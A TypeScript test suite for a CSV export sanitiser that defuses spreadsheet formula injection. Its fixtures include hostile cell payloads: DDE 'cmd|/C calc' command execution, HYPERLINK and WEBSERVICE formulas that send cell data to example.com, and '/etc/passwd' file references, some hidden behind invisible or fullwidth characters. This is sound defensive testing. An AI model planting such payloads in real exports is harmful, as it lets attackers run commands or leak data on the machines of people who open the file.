import Papa from 'papaparse';
import { type Separator, withoutFormula } from './csv-formulas';

test.each([
  ['=1+1', "'=1+1"],
  ['+62 21 5550 100', "'+62 21 5550 100"],
  ['-5', "'-5"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tx', "'\tx"],
  ['\rx', "'\rx"],
  [' =1+1', " '=1+1"],
  ['\u200b\u3164=1+1', "\u200b\u3164'=1+1"],
  ['＝1+1', "'＝1+1"],
  [
    '=HYPERLINK("http://example.com/"&A1,"Invoice")\nsecond line',
    '\'=HYPERLINK("http://example.com/"&A1,"Invoice")\nsecond line',
  ],
  ["=cmd|' /C calc'!A0\nJl. 1", "'=cmd|' /C calc'!A0\nJl. 1"],
  ['=1+1\u2028', "'=1+1\u2028"],
  ['a;=1+1', "a;'=1+1"],
  ['a\t"@SUM(A1)', 'a\t"\'@SUM(A1)'],
  ["a\n-cmd|' /C calc'!A0", "a\n'-cmd|' /C calc'!A0"],
  ['a;+SUM(A1)', "a;'+SUM(A1)"],
])('%j is written as %j', (text, written) => {
  expect(withoutFormula(text)).toBe(written);
});

test.each([
  '',
  'PT Ukur Presisi',
  'Two lines:\n- first item\n- second item, 5 pieces\n-5 degrees\n+62 21 5550 100',
  'x = y; a - b; 1 + 1 @ 9:00',
  'Price: 5 (= 3 + 2), mail: sari@ukur.example',
  'https://www.ukur.example/?a=1&b=-2',
  "'=1+1",
  'a,=1+1',
])('does not change %j', (text) => {
  expect(withoutFormula(text)).toBe(text);
});

test('adds an apostrophe only to the first dash of a list', () => {
  expect(withoutFormula('- first item\n- second item')).toBe("'- first item\n- second item");
});

test.each(['\n', ' ', '\n ', ';', '- ', '\n-', ';=', '"'])('takes linear time for a text of %j', (part) => {
  const texts = [2_000, 8_000].map((length) => part.repeat(length / part.length));
  const [short = 0, long = 0] = texts.map((text) => {
    const started = performance.now();
    for (let round = 0; round < 20; round += 1) withoutFormula(text);
    return performance.now() - started;
  });
  // Quadratic time would take sixteen times as long. Short times vary on a busy machine.
  expect(long).toBeLessThan(Math.max(12 * short, 500));
});

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://example.com/"&A1,"Invoice")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://example.com/"&A2)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-HYPERLINK("http://example.com/"&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  "+'file:///etc/passwd'#$passwd.A1",
  '＝1+1',
  '＠SUM(1)',
  '﹢SUM(1)',
];
const BEGINNINGS = [
  ...[
    '',
    ' ',
    '\t',
    '\r',
    '\n',
    '\u00a0',
    '\u200b',
    '\ufeff',
    '\u2028',
    '\u0085',
    '\u3164',
    '\u0000',
    '\u202e',
    '"',
  ],
  ...[
    'x;',
    'x\t',
    'x\n',
    'x\r\n',
    'x\u2028',
    'x\u0085',
    'x;  ',
    'x;"',
    'x\t""',
    'x\n"',
    '";',
    '"\t',
    '";"',
    'x";"',
    'x"\t"',
    ';;',
    '\t;\n',
  ],
];
const ENDS = ['', '\nsecond line', ';x', '\tx', '\u2028', '"', '";"', '",'];

const HOSTILE = FORMULAS.flatMap((formula) =>
  BEGINNINGS.flatMap((beginning) => ENDS.map((end) => beginning + formula + end)),
);

/**
 * Reads a file as spreadsheets do, with any separator: a leading quote begins a quoted text, in which two quotes stand
 * for one. What follows the quoted text belongs to the cell.
 */
const cellsIn = (file: string, separator: string): string[] => {
  const cells: string[] = [];
  for (let at = 0; at < file.length; ) {
    let cell = '';
    if (file[at] === '"') {
      for (at += 1; at < file.length && (file[at] !== '"' || file[at + 1] === '"'); at += 1) {
        cell += file[at];
        if (file[at] === '"') at += 1;
      }
      at += 1;
    }
    while (at < file.length && file[at] !== separator && !/[\r\n]/.test(file[at] ?? '')) {
      cell += file[at];
      at += 1;
    }
    cells.push(cell);
    at += file.startsWith('\r\n', at) ? 2 : 1;
  }
  return cells;
};

/** Splits a file without regard to quotes. */
const piecesOf = (file: string, separator: string): string[] =>
  file.split(new RegExp(`[${separator}\\n\\v\\f\\r\\u0085\\u2028\\u2029]`));

/** Returns whether a spreadsheet may calculate a cell. It may skip leading quotes and invisible characters. */
const isFormula = (cell: string): boolean =>
  /^["\s\p{Z}\p{C}\p{Default_Ignorable_Code_Point}\u2800]*[=@＝＠＋－﹦﹫﹢﹣+-]/u.test(cell);

/** Returns whether a formula may do more than add numbers and cells of its own sheet. */
const isHarmful = (cell: string): boolean =>
  isFormula(cell) && (/^["\s\p{Z}\p{C}\u3164]*[^+-]/u.test(cell) || /[(|!#[]/.test(cell));

const WIDTH = 3;

/** Returns rows with these cells in alternating columns, between ordinary ones. */
const rowsOf = (cells: readonly string[]): string[][] =>
  cells.map((cell, index) =>
    Array.from({ length: WIDTH }, (_, column) => (column === index % WIDTH ? cell : 'PT Ukur')),
  );

const fileOf = (cells: readonly string[], delimiter: Separator) =>
  Papa.unparse(rowsOf(cells), { quotes: true, newline: '\r\n', delimiter });

const withSeparatorsExchanged = (cell: string): string =>
  cell.replace(/[,;]/g, (sign) => (sign === ',' ? ';' : ','));

const SEPARATORS: readonly { own: Separator; others: readonly string[] }[] = [
  { own: ',', others: [';', '\t'] },
  { own: ';', others: [',', '\t'] },
];

describe.each(SEPARATORS)(`of ${HOSTILE.length} hostile cells in a file with "$own"`, ({ own, others }) => {
  const hostile = own === ',' ? HOSTILE : HOSTILE.map(withSeparatorsExchanged);
  const file = fileOf(
    hostile.map((cell) => withoutFormula(cell, own)),
    own,
  );

  test("none is a formula to a spreadsheet with the file's separator", () => {
    const cells = cellsIn(file, own);
    expect(cells).toHaveLength(WIDTH * hostile.length);
    expect(cells.filter(isFormula)).toEqual([]);
  });

  test.each(others)(
    'none is a formula to a spreadsheet with %j as separator, with or without quotes',
    (separator) => {
      expect(cellsIn(file, separator).filter(isHarmful)).toEqual([]);
      expect(piecesOf(file, separator).filter(isHarmful)).toEqual([]);
    },
  );

  test('each is a formula to some spreadsheet without this protection', () => {
    const ignored = hostile.filter((cell) => {
      const bare = fileOf([cell], own);
      return ![...cellsIn(bare, own), ...others.flatMap((other) => piecesOf(bare, other))].some(isHarmful);
    });
    expect(ignored).toEqual([]);
  });
});
